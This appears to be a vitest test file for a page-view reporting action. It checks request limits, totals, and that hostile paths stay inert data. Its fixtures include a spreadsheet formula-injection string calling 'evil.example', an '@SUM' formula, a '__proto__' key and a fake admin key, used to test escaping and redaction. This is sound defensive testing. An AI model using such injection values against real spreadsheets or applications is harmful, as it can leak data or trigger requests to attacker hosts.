import { expect, test } from 'vitest'
import { collect, expectHarmless, foreign, parseMarkdown } from '../unit/agent/words/tree-oracle.ts'
import { hostilePaths } from '../unit/report/views.ts'
import { pagesOn, reporting } from './page-views.ts'
import { parseCsv } from './parse-csv.ts'

test(
  'a report ends at the default of `max-requests`, which stays below what the service allows in an hour',
  { tags: ['long'] },
  () =>
    reporting(
      async ({ emulator, report }) => {
        const run = await report()
        expect(emulator.journal.filter((entry) => entry.status === 429)).toEqual([])
        expect(emulator.journal).toHaveLength(40)
        expect(run.outputs).toMatchObject({ outcome: 'reported', truncated: 'true' })
        expect(run.summary).toContain('#### Trend')
      },
      { isLimited: true, pageViews: [...pagesOn('2026-11-20', 15_000), ...pagesOn('2026-11-12', 15_000)] },
    ),
)

// The canary of the tree oracle stands in every path: found outside code, the path got out.
const paths = [
  ...hostilePaths.map(([, path]) => `/${foreign(path)}`.toWellFormed().slice(0, 2_000)),
  ...['=HYPERLINK("https://evil.example?Qzx","x")', '@SUM(Qzx)', '__proto__', 'Qzx::error::evil'],
]
// The invariants look for every form of the key in every sink; here only that there was something to find.
const key = 'admin_emulator_key_0123456789'
const withKey = [key, Buffer.from(key).toString('base64')].map((form) => `/found/${form}`)
// Query and fragment are no part of a page.
const shown = [...paths, '/found/***', '/found/***k='].map((path) => path.split(/[?#]/, 1).join() || '/').toSorted()

test('H105: hostile paths stay data in summary, outputs and files, and the key in one is not shown', () =>
  reporting(
    async ({ report }) => {
      const siteUrl = 'https://docs.example.com/en/'
      const run = await report({ 'site-url': siteUrl, export: 'v.csv,v.json' })
      expect(run.exitCode).toBe(0)
      const links = collect(parseMarkdown(run.summary)).flatMap((node) => (node.type === 'link' ? [node.url] : []))
      expect(links).toContain('https://docs.example.com/en/Qzx%40org/team%20')
      // The mark of direction after a path is ours: in a path it would be escaped.
      expectHarmless(run.summary.replaceAll('\u200E', ''), /^https:\/\/docs\.example\.com\/en\/[!-~]*$/)

      const json = JSON.parse(run.workspaceFiles['v.json'] ?? '')
      const [, ...records] = parseCsv(run.workspaceFiles['v.csv']?.slice(1) ?? '')
      const cells = records.map(([, , path = '']) => path)
      for (const found of [
        json.pages.map((page: { path: string }) => page.path),
        cells.map((cell) => cell.replace(/(?<=^|[\t\r\n,;|"'])'(?=[=+\-@\t\r＝＋－＠])/g, '')),
      ]) {
        expect(found.toSorted()).toEqual(shown)
      }
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
      expect(run.outputs).toMatchObject({ outcome: 'reported', pages: String(shown.length), truncated: 'false' })
      expect(JSON.parse(run.outputs['top-pages'] ?? '')).toHaveLength(10)
      expect(run.outputs['summary-line']).not.toMatch(/[<>@]|\/\//)
    },
    {
      pageViews: [...paths, ...withKey].flatMap((path, index) => [
        { date: '2026-11-20', path, human: 200 - index, ai: 50 },
        { date: '2026-11-10', path, human: 100 + (index % 2) * 90, ai: 20 },
      ]),
    },
  ))

test('the root action says the totals in two requests, and names the action that says more', () =>
  reporting(
    async ({ emulator, report }) => {
      const run = await report({ mode: 'page-views' }, { actionDir: '.' })
      expect(run.outputs).toMatchObject({
        ...{ outcome: 'reported', operation: 'page-views', 'views-total': '93', 'views-human': '90', 'views-ai': '3' },
        'summary-line': '14–20 Nov 2026: Views by people 90 (+50.0%), by AI agents 4 → 3.',
      })
      expect(emulator.journal.map(({ url }) => new URL(url, 'http://service').search)).toEqual([
        '?dateFrom=2026-11-14&dateTo=2026-11-21&limit=1&offset=0',
        '?dateFrom=2026-11-07&dateTo=2026-11-14&limit=1&offset=0',
      ])
      expect(run.summary).toContain('| People | 90 | 60 | +50.0% |\n| AI agents | 3 | 4 | 4 → 3 |')
      expect(run.summary).toContain('To see which pages changed, use the action `report`.')
    },
    {
      pageViews: [
        { date: '2026-11-20', path: '/', human: 90, ai: 3 },
        { date: '2026-11-10', path: '/', human: 60, ai: 4 },
      ],
    },
  ))
